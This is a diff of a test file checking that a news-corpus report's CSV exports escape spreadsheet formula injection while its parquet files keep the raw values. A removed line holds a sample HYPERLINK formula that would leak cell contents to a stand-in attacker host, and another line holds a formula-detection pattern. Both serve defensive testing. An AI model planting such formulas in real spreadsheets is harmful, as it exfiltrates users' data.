@@ -22,13 +22,14 @@ describe('CSV files of a corpus whose titles, sentences and outlet names look li
     await rm(repo, { recursive: true, force: true });
   });
 
-  it("articles.csv and outlets.csv start such cells with ' (OWASP); hits.parquet keeps the raw values", async () => {
-    expect(await report('data/articles.csv')).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",`);
+  it("outlets.csv starts such cells with ' (OWASP); articles.parquet and hits.parquet keep the raw values", async () => {
     expect(await report('data/outlets.csv')).toContain(`nd,"'@nd",`);
+    const titles = await readParquet<{ title: string }>(path.join(repo, 'reports', 'kazakhstan-2022', 'data', 'articles.parquet'), (t) => `SELECT title FROM ${t} WHERE title IS NOT NULL`);
+    expect(titles.map((a) => a.title)).toContain(EVIL);
     const sentences = await readParquet<{ sentence: string }>(path.join(repo, 'reports', 'kazakhstan-2022', 'data', 'hits.parquet'), (t) => `SELECT DISTINCT sentence FROM ${t}`);
     expect(sentences.map((s) => s.sentence)).toContain('-Die Regierung sprach von „Terrorbanden“ und Terroristen.');
     // no cell of any line starts a formula
-    for (const file of ['data/articles.csv', 'data/outlets.csv', 'data/outlet-frames.csv']) {
+    for (const file of ['data/outlets.csv', 'data/outlet-frames.csv', 'data/claims.csv']) {
       for (const line of (await report(file)).split('\r\n')) expect(line).not.toMatch(/(^|,)"?[=+@]/);
     }
   });
